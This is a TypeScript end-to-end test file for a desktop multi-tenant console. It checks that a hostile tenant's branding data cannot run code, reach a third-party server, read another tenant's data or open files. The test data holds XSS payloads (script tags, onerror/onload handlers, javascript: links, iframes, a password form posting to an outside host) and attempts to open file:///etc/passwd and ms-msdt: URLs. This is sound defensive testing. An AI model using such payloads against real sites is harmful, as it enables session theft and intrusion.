import { readdirSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Page } from '@playwright/test'
import { startDesktopEnv, type DesktopEnv } from '#tests/support/native/desktop-env.ts'
import { waitFor } from '#tests/support/native/wait.ts'
import { startConsole, type RunningConsole } from './support/console.ts'
import { callBridge, postFrom, signIn } from './support/page-calls.ts'
import { json, makeSite, startTenantServer, success, type TenantServer } from './support/tenant-server.ts'

/** Another server, which must never be contacted by this console. */
async function startStranger() {
  const heard: string[] = []
  const server: Server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`)
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('globalThis.owned = "stranger"')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  const stop = () => new Promise((resolve) => server.close(resolve))
  return { heard, origin: `http://127.0.0.1:${port}`, stop }
}

/** HTML that an agency may write and that would act if it were trusted. */
const hostileHtml = (stranger: string, victim: string) => `
  <h2>Flight Deals</h2>
  <script>globalThis.owned = 'script'</script>
  <script src="${stranger}/x.js"></script>
  <img src="${stranger}/beacon.png" onerror="globalThis.owned = 'onerror'">
  <svg onload="globalThis.owned = 'svg'"><script>globalThis.owned = 'svg script'</script></svg>
  <iframe srcdoc="<script>top.owned = 'frame'</script>"></iframe>
  <iframe src="app://${victim}/app/"></iframe>
  <object data="${stranger}/o"></object><embed src="${stranger}/e">
  <meta http-equiv="refresh" content="0;url=${stranger}/refresh"><base href="${stranger}/">
  <link rel="stylesheet" href="${stranger}/s.css"><style>body { background: url(${stranger}/css.png) }</style>
  <form action="${stranger}/form"><input name="password" autofocus><button>Sign in</button></form>
  <a href="javascript:globalThis.owned = 'link'">Deals</a>
  <a href="data:application/octet-stream,x" download="deals.exe">Deals</a>
  <a href="app://${victim}/app/login" target="_blank">Deals</a>
  <div onmouseover="globalThis.owned = 'mouse'" style="position:fixed;inset:0;z-index:9999">Deals</div>`

describe('a hostile agency', () => {
  let desktop: DesktopEnv
  let running: RunningConsole
  let skyways: TenantServer
  let mallory: TenantServer
  let stranger: Awaited<ReturnType<typeof startStranger>>
  let victimId: string
  let victim: Page
  let page: Page
  beforeAll(async () => {
    ;[desktop, skyways, mallory, stranger] = await Promise.all([
      startDesktopEnv({ printer: false }),
      startTenantServer('skyways'),
      startTenantServer('mallory'),
      startStranger(),
    ])
    running = await startConsole(desktop)
    victimId = await running.addTenant(skyways.address)
    victim = await running.workspace(victimId)
    await signIn(victim, 'asha@skyways.test')
    const html = hostileHtml(stranger.origin, victimId)
    mallory.on('/api/whitelabel/detetct', (_request, response) =>
      json(
        response,
        200,
        success({
          ...makeSite('mallory'),
          // Looks like the other one, down to its id.
          siteId: 'site-skyways',
          companyName: 'skyways travels<img src=x onerror="globalThis.owned=1">',
          theme: { primary: `red;background:url(${stranger.origin}/theme)`, accent: '#0b5fff', glyph: 'S' },
          ssrHtml: { header: html, footer: html },
          popupAlert: { isActive: true, title: '<b>Deals</b>', html, frequencyDays: 1 },
          trackingTag: `<script src="${stranger.origin}/tag.js"></script>`,
          scripts: [`${stranger.origin}/script.js`, "globalThis.owned = 'site script'"],
          coreSiteUrl: `${stranger.origin}/core`,
          logoUrl: `${stranger.origin}/logo.png`,
          faviconUrl: 'javascript:globalThis.owned=1',
        }),
        { 'auth-token': 'planted', 'set-cookie': 'session=planted; Path=/' },
      ),
    )
    page = await running.workspace(await running.addTenant(mallory.address))
    await page.getByText('Flight Deals').first().waitFor({ state: 'attached' })
  })
  afterAll(async () => {
    await running?.close()
    await Promise.all([skyways?.stop(), mallory?.stop(), stranger?.stop()])
    await desktop?.stop()
  })

  const owned = (one: Page) => one.evaluate(() => (globalThis as { owned?: unknown }).owned ?? null)

  it('runs no code outside its own page, and reveals nothing to strangers', async () => {
    await page.mouse.move(400, 400)
    const clicked = await page.evaluate(() => {
      const theirs = [...document.querySelectorAll('a')].filter(
        (link) => link.textContent?.trim() === 'Deals',
      )
      for (const link of theirs) link.click()
      return theirs.length
    })
    expect(clicked).toBeGreaterThan(0)
    for (const one of [page, running.shell, victim]) expect(await owned(one)).toBeNull()
    expect(page.url().startsWith('app://')).toBe(true)
    // Frames, forms and overlays are removed before they are shown.
    for (const what of [
      'iframe',
      'object',
      'embed',
      'script[src^="http"]',
      'style[nonce]',
      '[onmouseover]',
      'base',
    ]) {
      expect([what, await page.locator(`body ${what}`).count()]).toEqual([what, 0])
    }
    expect(stranger.heard).toEqual([])
  })

  it('appears as text in the rail, never as HTML', async () => {
    const entry = (await running.state()).entries.find(({ name }) => name.includes('<img'))
    expect(entry).toBeDefined()
    expect(await running.shell.locator('img').count()).toBe(0)
    expect(await running.shell.locator('[style*="url("]').count()).toBe(0)
  })

  it("can't sign itself in with its own header, and gets nothing of the agency it imitates", async () => {
    const { entries } = await running.state()
    expect(entries.map(({ isSignedIn }) => isSignedIn)).toEqual([true, false])
    await postFrom(page, '/api/api/getTickets')
    for (const { headers } of mallory.received) {
      expect(headers).not.toHaveProperty('auth-token')
      expect(headers).not.toHaveProperty('cookie')
    }
    expect(mallory.received.some(({ body }) => body.includes(skyways.token))).toBe(false)
  })

  it('reads no data of another agency: not its pages, its storage, its calls', async () => {
    await victim.evaluate(() => localStorage.setItem('kept', 'theirs alone'))
    const seen = await page.evaluate(async (host) => {
      const tried = [`app://${host}/app/`, `app://${host}/api/api/getTickets`, 'app://shell/app/']
      const fetched = await Promise.all(
        tried.map((address) =>
          fetch(address, { method: 'GET' }).then(
            () => 'answered',
            () => 'refused',
          ),
        ),
      )
      return { fetched, kept: localStorage.getItem('kept'), opener: String(window.opener) }
    }, victimId)
    expect(seen).toEqual({ fetched: ['refused', 'refused', 'refused'], kept: null, opener: 'null' })
    const before = running.app.windows().length
    await page.evaluate((host) => void window.open(`app://${host}/app/`), victimId)
    await page.evaluate(() => void window.open('app://shell/app/'))
    expect(running.app.windows()).toHaveLength(before)
  })

  it('gets no file: no download starts, nothing is revealed, no program is opened', async () => {
    await running.app.evaluate(({ shell }) => {
      const kept = globalThis as unknown as { opened: string[] }
      kept.opened = []
      shell.openExternal = async (url: string) => void kept.opened.push(url)
    })
    await page.evaluate(() => {
      for (const href of ['data:application/octet-stream,x', URL.createObjectURL(new Blob(['x']))]) {
        const link = document.createElement('a')
        link.href = href
        link.download = 'deals.exe'
        document.body.append(link)
        link.click()
      }
      for (const address of [
        'smb://host/share',
        'file:///etc/passwd',
        'ms-msdt:/id',
        'http://stranger.example',
      ])
        window.open(address)
    })
    const codes = await Promise.all(
      ['/etc/passwd', running.profile].map(
        async (path) => (await callBridge(page, 'files.reveal', { path })).error?.code,
      ),
    )
    expect(codes).toEqual(['notFound', 'notFound'])
    const opened = await running.app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)
    expect(opened).toEqual([])
    const downloads = await running.app.evaluate(({ app }) => app.getPath('downloads'))
    const files = (() => {
      try {
        return readdirSync(downloads).filter((name) => name.includes('deals'))
      } catch {
        return []
      }
    })()
    expect(files).toEqual([])
  })

  it('delays nobody else when it answers late or never', async () => {
    mallory.on('/api/slow', () => undefined)
    let isSlowOver = false
    const slow = postFrom(page, '/api/slow')
      .catch(() => 0)
      .finally(() => (isSlowOver = true))
    await waitFor('the slow call to arrive', () => mallory.last('/api/slow') !== undefined)
    const startedAt = Date.now()
    skyways.on('/api/quick', (_request, response) => json(response, 200, success({})))
    for (let index = 0; index < 20; index += 1) expect(await postFrom(victim, '/api/quick')).toBe(200)
    expect((await running.state()).entries).toHaveLength(2)
    expect(Date.now() - startedAt).toBeLessThan(5_000)
    expect(isSlowOver).toBe(false)
    await page.close().catch(() => undefined)
    await slow
  })
})
